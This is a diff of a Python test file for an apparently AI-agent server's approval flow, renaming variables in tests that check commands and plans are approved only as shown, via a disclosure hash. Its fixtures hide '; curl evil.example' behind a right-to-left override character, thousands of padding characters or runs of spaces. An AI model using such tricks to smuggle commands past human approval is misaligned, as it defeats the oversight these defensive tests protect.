@@ -116,20 +116,20 @@ async def test_every_note_stands_below_the_name_of_its_own_file(bench: ToolWorks
 
 @proves("APR-8")
 async def test_what_was_not_shown_is_not_granted(tmp_path: Path) -> None:
-    wish = call("execute_command", command="echo a\u202eb; " + "x" * 3_000 + "; curl evil.example")
-    async with live_server(tmp_path, replies=[wish, "I see."]) as guest:
-        chat = await guest.chat()
+    asked_for = call("execute_command", command="echo a\u202eb; " + "x" * 3_000 + "; curl evil.example")
+    async with live_server(tmp_path, replies=[asked_for, "I see."]) as client:
+        chat = await client.chat()
         await chat.send("do it")
         (approval,) = await chat.approvals()
         shown = approval["disclosure"]
         commands = [item["text"] for item in shown["items"] if item["kind"] == "command"]
         assert commands == ["echo a⟨U+202E⟩b; " + "x" * 3_000 + "; curl evil.example"]
         path = f"{chat.path}/approvals/{approval['id']}/disclosure"
-        assert await guest.ask("GET", path) == shown
-        assert (await guest.ask("GET", f"{path}?after=1"))["items"] == shown["items"][1:]
+        assert await client.ask("GET", path) == shown
+        assert (await client.ask("GET", f"{path}?after=1"))["items"] == shown["items"][1:]
         other = {"id": approval["id"], "decision": "allow_once", "disclosure": "0" * 64}
-        await guest.ask("POST", f"{chat.path}/approvals", {"decisions": [other]}, expect=409)
-        await guest.ask("POST", f"{chat.path}/approvals", {"decisions": [{**other, "disclosure": shown["hash"]}]})
+        await client.ask("POST", f"{chat.path}/approvals", {"decisions": [other]}, expect=409)
+        await client.ask("POST", f"{chat.path}/approvals", {"decisions": [{**other, "disclosure": shown["hash"]}]})
 
 
 @proves("APR-8", "APR-6")
@@ -140,11 +140,11 @@ async def test_a_plan_is_approved_only_as_it_was_shown(tmp_path: Path) -> None:
         "check": "true" + " " * 400 + "; curl evil.example",
         "tools_needed": ["write"],
     }
-    async with live_server(tmp_path, replies=["Done."]) as guest:
-        chat = await guest.chat()
+    async with live_server(tmp_path, replies=["Done."]) as client:
+        chat = await client.chat()
         plan = {"goal": "x", "steps": [step], "budget": {"calls": 3}}
-        message_id = (await guest.ask("POST", f"{chat.path}/plans", {"plan": plan}))["message_id"]
-        shown = await guest.ask("GET", f"{chat.path}/plans/{message_id}/disclosure")
+        message_id = (await client.ask("POST", f"{chat.path}/plans", {"plan": plan}))["message_id"]
+        shown = await client.ask("GET", f"{chat.path}/plans/{message_id}/disclosure")
         told = {(item["kind"], item["text"]) for item in shown["items"]}
         assert told == {
             ("step", "Write"),
@@ -154,8 +154,8 @@ async def test_a_plan_is_approved_only_as_it_was_shown(tmp_path: Path) -> None:
             ("budget", "3"),
         }
         approve = f"{chat.path}/plans/{message_id}/approve"
-        await guest.ask("POST", approve, {"disclosure": "0" * 64}, expect=409)
-        await guest.ask("POST", approve, {"disclosure": shown["hash"]}, expect=202)
+        await client.ask("POST", approve, {"disclosure": "0" * 64}, expect=409)
+        await client.ask("POST", approve, {"disclosure": shown["hash"]}, expect=202)
 
 
 # --- the terminal: all of it was on the screen before `y` means yes
